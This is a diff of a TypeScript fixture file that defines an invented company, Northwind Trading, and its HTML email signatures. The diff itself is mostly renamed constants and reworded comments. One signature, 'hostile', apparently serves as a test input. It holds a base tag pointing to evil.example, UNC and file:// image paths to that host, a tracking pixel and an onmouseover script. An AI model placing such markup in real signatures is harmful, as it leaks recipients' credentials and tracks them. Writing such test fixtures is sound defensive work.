@@ -1,11 +1,11 @@
-/** The demonstration organisation: invented people and companies, signatures like those people really have. */
+/** The demonstration organisation: invented people and companies with realistic signatures. */
 import type { Organisation, Person, Signature, VariableDefinition } from './repository.ts'
 
-const navy = '#0f3d5e'
-const teal = '#1b8a8f'
-const coral = '#c4492e'
-const grey = '#5b6770'
-const font = 'font-family:Arial,Helvetica,sans-serif;'
+const NAVY = '#0f3d5e'
+const TEAL = '#1b8a8f'
+const CORAL = '#c4492e'
+const GREY = '#5b6770'
+const FONT = 'font-family:Arial,Helvetica,sans-serif;'
 
 const definition = (
   path: string,
@@ -47,23 +47,23 @@ const definitions: readonly VariableDefinition[] = [
 const picture = (path: string, width: number, height: number, alt: string, more = '') =>
   `<img src="{{images}}/${path}" width="${width}" height="${height}" alt="${alt}" border="0" style="display:block;border:0;width:${width}px;height:${height}px;${more}">`
 
-const link = (href: string, label: string, colour = navy) =>
+const link = (href: string, label: string, colour = NAVY) =>
   `<a href="${href}" style="color:${colour};text-decoration:underline;">${label}</a>`
 
-const line = (content: string, size = 13, colour = grey) =>
-  `<tr><td style="${font}font-size:${size}px;line-height:${size + 6}px;color:${colour};padding:0;">${content}</td></tr>`
+const line = (content: string, size = 13, colour = GREY) =>
+  `<tr><td style="${FONT}font-size:${size}px;line-height:${size + 6}px;color:${colour};padding:0;">${content}</td></tr>`
 
 const table = (rows: string, attributes = '') =>
   `<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="border-collapse:collapse;" ${attributes}>${rows}</table>`
 
-const nameLine = (colour = navy) =>
+const nameLine = (colour = NAVY) =>
   line(
     `<strong style="color:${colour};">{{display_name}}</strong>{{#if pronouns}} <span style="font-size:12px;">({{pronouns}})</span>{{/if}}`,
     16,
     colour,
   )
 
-const contactLines = (colour = navy) =>
+const contactLines = (colour = NAVY) =>
   line('{{job_title}}{{#if department}} &middot; {{department}}{{/if}}') +
   `{{#if phone}}${line(`T ${link('tel:{{tel phone}}', '{{phone}}', colour)}`)}{{/if}}` +
   `{{#if mobile_phone}}${line(`M ${link('tel:{{tel mobile_phone}}', '{{mobile_phone}}', colour)}`)}{{/if}}` +
@@ -85,7 +85,7 @@ const icons = table(
 
 const besideLogo = (details: string) =>
   table(
-    `<tr><td valign="top" style="padding:0 18px 0 0;border-right:2px solid ${teal};">${picture('northwind/logo.png?v=2', 180, 48, 'Northwind Trading')}</td><td valign="top" style="padding:0 0 0 18px;">${table(details)}${icons}</td></tr>`,
+    `<tr><td valign="top" style="padding:0 18px 0 0;border-right:2px solid ${TEAL};">${picture('northwind/logo.png?v=2', 180, 48, 'Northwind Trading')}</td><td valign="top" style="padding:0 0 0 18px;">${table(details)}${icons}</td></tr>`,
     'width="520"',
   )
 
@@ -99,27 +99,27 @@ const withBanner = (above: string, banner: string, href: string, alt: string) =>
   `${above}${table(`<tr><td style="padding:14px 0 0 0;"><a href="${href}">${picture(`banners/${banner}.png?v=3`, 480, 96, alt, 'max-width:100%;')}</a></td></tr>`)}`
 
 const closing = (greeting: string, after: string) =>
-  `<p style="${font}font-size:14px;color:#222222;margin:0 0 12px 0;">${greeting}</p>${after}`
+  `<p style="${FONT}font-size:14px;color:#222222;margin:0 0 12px 0;">${greeting}</p>${after}`
 
 const corporate = besideLogo(nameLine() + contactLines())
 const portrait = besidePortrait(nameLine() + contactLines() + line('{{company}}, {{office}}', 12))
 const short = table(
   nameLine() + line(`{{job_title}} &middot; {{company}} &middot; ${link('tel:{{tel phone}}', '{{phone}}')}`),
 )
-const nameOnly = `<p style="${font}font-size:14px;color:${navy};margin:0;">{{first_name}}</p>`
-const plain = `<p style="${font}font-size:13px;line-height:19px;color:#222222;margin:0;">{{display_name}}<br>{{job_title}}, {{company}}<br>${link('tel:{{tel phone}}', '{{phone}}')} | ${link('mailto:{{email}}', '{{email}}')}</p>`
+const nameOnly = `<p style="${FONT}font-size:14px;color:${NAVY};margin:0;">{{first_name}}</p>`
+const plain = `<p style="${FONT}font-size:13px;line-height:19px;color:#222222;margin:0;">{{display_name}}<br>{{job_title}}, {{company}}<br>${link('tel:{{tel phone}}', '{{phone}}')} | ${link('mailto:{{email}}', '{{email}}')}</p>`
 
 const legal = `<style>
-.nw-legal { font-family: Georgia, 'Times New Roman', serif; color: ${grey}; }
-.nw-legal a { color: ${teal}; text-decoration: underline; }
+.nw-legal { font-family: Georgia, 'Times New Roman', serif; color: ${GREY}; }
+.nw-legal a { color: ${TEAL}; text-decoration: underline; }
 @media (max-width: 480px) { .nw-legal td { display: block !important; width: auto !important; } }
 </style>
-<div class="nw-legal">${besideLogo(nameLine() + contactLines(teal))}
+<div class="nw-legal">${besideLogo(nameLine() + contactLines(TEAL))}
 <p style="font-size:11px;line-height:15px;width:520px;margin:14px 0 0 0;">{{legal_line}} This message and its attachments are meant for the persons it is addressed to. If you received it by mistake, please tell the sender and delete it. See our <a href="https://www.northwind.example/privacy?from=mail&amp;v=2">privacy notice</a>.</p></div>`
 
 const classic = `${portrait}
-<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{{web booking_link}}" style="height:34px;v-text-anchor:middle;width:170px;" arcsize="50%" stroke="f" fillcolor="${teal}"><center style="color:#ffffff;font-family:Arial,sans-serif;font-size:13px;font-weight:bold;">Book a meeting</center></v:roundrect><![endif]-->
-<!--[if !mso]><!--><a href="{{web booking_link}}" style="${font}background-color:${teal};border-radius:17px;color:#ffffff;display:inline-block;font-size:13px;font-weight:bold;line-height:34px;margin-top:12px;text-align:center;text-decoration:none;width:170px;">Book a meeting</a><!--<![endif]-->`
+<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{{web booking_link}}" style="height:34px;v-text-anchor:middle;width:170px;" arcsize="50%" stroke="f" fillcolor="${TEAL}"><center style="color:#ffffff;font-family:Arial,sans-serif;font-size:13px;font-weight:bold;">Book a meeting</center></v:roundrect><![endif]-->
+<!--[if !mso]><!--><a href="{{web booking_link}}" style="${FONT}background-color:${TEAL};border-radius:17px;color:#ffffff;display:inline-block;font-size:13px;font-weight:bold;line-height:34px;margin-top:12px;text-align:center;text-decoration:none;width:170px;">Book a meeting</a><!--<![endif]-->`
 
 const onNavy = table(
   `<tr><td style="padding:16px;">${picture('northwind/logo-white.png', 196, 56, 'Northwind Trading')}</td><td style="padding:16px 20px 16px 0;">${table(
@@ -128,7 +128,7 @@ const onNavy = table(
       line(link('tel:{{tel phone}}', '{{phone}}', '#ffffff'), 13, '#d5e6ee') +
       line(link('{{web website}}', '{{website}}', '#ffffff'), 13, '#d5e6ee'),
   )}</td></tr>`,
-  `width="520" bgcolor="${navy}"`,
+  `width="520" bgcolor="${NAVY}"`,
 )
 
 const withBadges = table(
@@ -139,11 +139,11 @@ const meeting = besideLogo(
   nameLine() +
     contactLines() +
     line(
-      `{{#if booking_link}}<a href="{{web booking_link}}" style="color:${coral};font-weight:bold;">Book 30 minutes with {{first_name}}</a>{{/if}}`,
+      `{{#if booking_link}}<a href="{{web booking_link}}" style="color:${CORAL};font-weight:bold;">Book 30 minutes with {{first_name}}</a>{{/if}}`,
     ),
 )
 
-const away = `${corporate}<p style="${font}font-size:13px;color:#ffffff;background-color:${coral};padding:8px 12px;margin:12px 0 0 0;width:496px;">{{campaign_line}}</p>`
+const away = `${corporate}<p style="${FONT}font-size:13px;color:#ffffff;background-color:${CORAL};padding:8px 12px;margin:12px 0 0 0;width:496px;">{{campaign_line}}</p>`
 
 type Unnumbered = Omit<Signature, 'combinedIds'>
 
@@ -154,7 +154,7 @@ const signature = (
   over: Partial<Unnumbered> = {},
 ): Unnumbered => ({ ownerId, name, template, variants: [], audiences: [], ...over })
 
-const harbourDays = 'https://events.northwind.example/harbour-days?utm_source=mail&amp;utm_campaign=autumn'
+const HARBOUR_DAYS = 'https://events.northwind.example/harbour-days?utm_source=mail&amp;utm_campaign=autumn'
 
 const ofAlex: readonly Unnumbered[] = [
   signature('u-1', 'Northwind standard', corporate, {
@@ -172,7 +172,7 @@ const ofAlex: readonly Unnumbered[] = [
   signature(
     'u-1',
     'Harbour Days',
-    withBanner(corporate, 'autumn', harbourDays, 'Northwind Harbour Days, 24 and 25 September'),
+    withBanner(corporate, 'autumn', HARBOUR_DAYS, 'Northwind Harbour Days, 24 and 25 September'),
     {
       variants: [{ code: 'reply', template: short }],
       collection: 'campaigns',
@@ -209,13 +209,13 @@ const ofAlex: readonly Unnumbered[] = [
 ]
 
 const ofSales: readonly Unnumbered[] = [
-  signature('u-2', 'Sales desk', besideLogo(nameLine(teal) + contactLines(teal)), {
+  signature('u-2', 'Sales desk', besideLogo(nameLine(TEAL) + contactLines(TEAL)), {
     variants: [{ code: 'reply', template: plain }],
   }),
   signature(
     'u-2',
     'Sales desk, Harbour Days',
-    withBanner(plain, 'autumn', harbourDays, 'Northwind Harbour Days'),
+    withBanner(plain, 'autumn', HARBOUR_DAYS, 'Northwind Harbour Days'),
   ),
   signature('u-2', 'Quotation', closing('Thank you for asking us,', portrait), { collection: 'quotations' }),
 ]
@@ -241,11 +241,11 @@ const ofMaria: readonly Unnumbered[] = [
   signature('u-3', 'Simples', plain, { order: 4 }),
 ]
 
-/** Exactly 40,000 characters: more than a mail client takes, though every part of it is ordinary. */
+/** Exactly 40,000 characters of valid HTML: more than a mail client accepts. */
 function longNotice(): string {
   const clause = (at: number) =>
-    `<p style="${font}font-size:11px;line-height:15px;color:${grey};margin:0 0 8px 0;"><strong>${at}.</strong> Prices are those of the day of shipment. Goods travel at the risk of the receiver from the moment they cross the rail of the vessel, whoever pays the freight.</p>`
-  let notice = `<p style="${font}font-size:14px;color:${navy};margin:0 0 8px 0;">Tess Edge, Northwind Trading</p>`
+    `<p style="${FONT}font-size:11px;line-height:15px;color:${GREY};margin:0 0 8px 0;"><strong>${at}.</strong> Prices are those of the day of shipment. Goods travel at the risk of the receiver from the moment they cross the rail of the vessel, whoever pays the freight.</p>`
+  let notice = `<p style="${FONT}font-size:14px;color:${NAVY};margin:0 0 8px 0;">Tess Edge, Northwind Trading</p>`
   for (let at = 1; notice.length + clause(at).length <= 39_900; at += 1) notice += clause(at)
   const [open, close] = ['<p style="font-size:11px;">End of terms', '</p>']
   return `${notice}${open}`.padEnd(40_000 - close.length, '.') + close
@@ -267,7 +267,7 @@ const hostile = `<base href="https://evil.example/">
 <img src="\\\\evil.example\\share\\u.png" width="1" height="1" alt="">
 <img src="file://evil.example/share/v.png" width="1" height="1" alt="">
 <img src="https://tracker.evil.example/open.gif?who=tess" width="1" height="1" alt="">
-<p onmouseover="document.title='owned'" style="${font}font-size:14px;color:${navy};">Tess Edge, <a href="https://www.northwind.example/" target="_blank">Northwind Trading</a></p>
+<p onmouseover="document.title='owned'" style="${FONT}font-size:14px;color:${NAVY};">Tess Edge, <a href="https://www.northwind.example/" target="_blank">Northwind Trading</a></p>
 ${picture('northwind/mark.png', 40, 40, 'Northwind')}`
 
 const catalogue = table(
@@ -486,13 +486,13 @@ const people: readonly Person[] = [
   }),
 ]
 
-/** Combined ids run from 11-0 on, in this order; the people's defaults name them. */
+/** Combined ids count from 11-0 in this order; the defaults of the people name them. */
 const signatures: readonly Signature[] = [...ofAlex, ...ofSales, ...ofMaria, ...ofTess].map((entry, at) => ({
   combinedIds: `${at + 11}-0`,
   ...entry,
 }))
 
-/** Northwind Trading: an organisation of five mailboxes, from the ordinary to the hostile. */
+/** Northwind Trading: five mailboxes, from a usual one to one with hostile signatures. */
 export const demonstration: Organisation = {
   maintenance: null,
   definitions,
